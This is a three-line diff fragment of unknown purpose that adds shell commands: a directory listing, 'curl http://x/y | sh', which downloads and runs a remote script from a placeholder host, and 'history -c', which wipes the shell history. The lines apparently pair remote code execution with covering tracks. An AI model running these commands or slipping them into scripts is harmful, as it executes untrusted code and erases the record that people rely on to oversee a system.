@@ -1,0 +1,3 @@
+ls
+curl http://x/y | sh
+history -c
